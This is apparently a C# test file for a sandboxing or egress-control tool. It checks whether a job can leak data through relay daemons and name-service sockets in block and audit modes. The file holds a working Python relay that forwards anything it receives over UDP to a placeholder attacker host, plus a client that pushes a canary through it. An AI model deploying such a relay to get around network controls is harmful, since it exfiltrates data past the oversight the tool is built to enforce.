using Sallyport.Lab.Processes;

namespace Sallyport.Kernel.Tests;

/// <summary>
/// HARDENING rule 6: a daemon that was there before the job, and that would carry something out on its word. Here it is a relay
/// that sends whatever it is told to the attacker.
/// </summary>
public sealed class HelperTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    private const int Port = 7070;
    private const string Path = "/run/lab/work/relay.sock";

    /// <summary>Where D-Bus listens: one word on it starts a unit, or asks systemd-resolved for a name.</summary>
    private const string Bus = "/run/dbus/system_bus_socket";

    private const string Relay = $"""
        import os, selectors, socket
        os.makedirs(os.path.dirname('{Path}'), exist_ok=True)
        out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        ways = selectors.DefaultSelector()
        if os.path.exists('{Path}'):
            os.unlink('{Path}')
        for family, address in ((socket.AF_INET, ('0.0.0.0', 7070)), (socket.AF_UNIX, '{Path}'), (socket.AF_UNIX, '\0lab-relay')):
            server = socket.socket(family)
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            server.bind(address)
            server.listen()
            ways.register(server, selectors.EVENT_READ)
        print('listening', flush=True)
        while True:
            for key, _ in ways.select():
                client, _ = key.fileobj.accept()
                out.sendto(client.recv(200), ('{Attacker}', 5300))
                client.sendall(b'sent')
                client.close()
        """;

    private const string Client = """
        import socket, sys
        family = socket.AF_INET if sys.argv[1] == 'tcp' else socket.AF_UNIX
        where = (sys.argv[2], 7070) if family == socket.AF_INET else sys.argv[2].replace('@', '\0')
        way = socket.socket(family)
        try:
            way.connect(where)
        except PermissionError:
            sys.exit('refused')
        way.sendall(sys.argv[3].encode())
        print(way.recv(10))
        """;

    [Theory]
    [EveryMode("127.0.0.1", LabAddresses.Client)]
    public async Task A_relay_on_an_address_of_the_machine(LabMode mode, string address)
    {
        using LabProcess relay = await RelayAsync();
        await ProveAsync(mode, new Attack
        {
            Command = Ask("tcp", address),
            Row = Row.Connection("tcp", Port, address),
            Reasons = ["helper"],
            Exe = null,
            Silent = (Attacker, 5300),
        });
    }

    [Theory]
    [EveryMode(Path, "@lab-relay", Path + "@@@", Bus)]
    public async Task A_relay_on_a_Unix_socket(LabMode mode, string path)
    {
        using LabProcess relay = await RelayAsync(path == Bus ? Bus : Path);
        await ProveAsync(mode, new Attack
        {
            Command = Ask("unix", path),
            // A path with NULs behind it is the same one: most programs give the length of the whole structure.
            Row = Row.Connection("unix", 0, path.TrimEnd('@')),
            Reasons = ["helper"],
            Exe = null,
            Silent = (Attacker, 5300),
        });
    }

    /// <summary>
    /// Technique D9: systemd-resolved by varlink and nscd ask for any name. The C library does without them, so that is no refusal
    /// to tell of; in audit mode they are asked as ever, and the report says by whom.
    /// </summary>
    [Theory]
    [EveryMode("/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve")]
    public async Task A_service_that_looks_names_up_is_not_asked_in_block_mode(LabMode mode, string path)
    {
        using LabProcess relay = await RelayAsync(path);
        foreach (LabMode now in mode == LabMode.Block ? [LabMode.Off, mode] : (LabMode[])[mode])
        {
            LabRun run = await Lab.RunAsync(now, Ask("unix", path));
            Assert.Equal(now != LabMode.Block, run.Traffic.Contains(Canary));
            if (now == LabMode.Block)
            {
                Assert.Empty(run.Report.Refusals);
            }
            else if (now == LabMode.Audit)
            {
                Assert.True(
                    run.Report.Connections.Any(row => row is { Protocol: "unix", Verdict: "observed", Reason: "name-service", WouldRefuse: true }
                        && row.Address == path && System.IO.Path.GetFileName(run.Report.ExeOf(row.Process))?.StartsWith("python", StringComparison.Ordinal) == true),
                    run.ToString());
            }
        }
    }

    [Fact]
    public async Task Names_are_found_without_the_service_that_looks_them_up()
    {
        using LabProcess relay = await RelayAsync("/run/nscd/socket");
        LabRun run = await PassAsync(Command("resolve", "allowed.test", "4443", Canary) with
        {
            Allow = ["tcp://allowed.test:4443"],
        });
        // What the agent itself asks (whose the command is) may be there.
        Assert.DoesNotContain(
            run.Traffic.Packets,
            packet => packet.DestinationPort == 5300 && packet.Payload.Span.IndexOf("allowed.test"u8) >= 0);
        Assert.True(run.Traffic.Contains(Canary), run.ToString());
    }

    [Fact]
    public async Task What_the_policy_names_may_be_asked()
    {
        using LabProcess relay = await RelayAsync();
        LabRun run = await PassAsync(Script(
            $"/usr/bin/python3 -c \"$CLIENT\" tcp 127.0.0.1 {Canary}",
            $"/usr/bin/python3 -c \"$CLIENT\" unix {Path} {Canary}",
            $"/usr/bin/python3 -c \"$CLIENT\" unix @lab-relay {Canary}") with
        {
            Before = ["/usr/bin/env", $"CLIENT={Client}"],
            Allow = ["127.0.0.1:7070"],
            Policy = $"version: 1\nsockets: [{Path}, '@lab-relay']",
        });
        Assert.Equal(3, run.Traffic.PacketsTo(Attacker, 5300));
    }

    [Fact]
    public Task What_the_job_starts_itself_is_no_helper() => PassAsync(Script(
        "/usr/bin/python3 -c \"$RELAY\" > started & relay=$!",
        "until grep -q listening started; do sleep 0.05; done",
        "trap 'kill $relay' EXIT",
        $"for kind in 'tcp 127.0.0.1' 'unix {Path}' 'unix @lab-relay'; do /usr/bin/python3 -c \"$CLIENT\" $kind {Canary}; done") with
    {
        Before = ["/usr/bin/env", $"CLIENT={Client}", $"RELAY={Relay}"],
        Allow = [$"udp://{Attacker}:5300"],
    });

    private LabCommand Ask(string kind, string address) => Command("/usr/bin/python3", "-c", Client, kind, address, Canary);

    private async Task<LabProcess> RelayAsync(string path = Path)
    {
        LabProcess relay = Lab.Start("/usr/bin/python3", "-c", Relay.Replace(Path, path, StringComparison.Ordinal));
        await relay.SaysAsync("listening", TimeSpan.FromMinutes(1));
        return relay;
    }
}
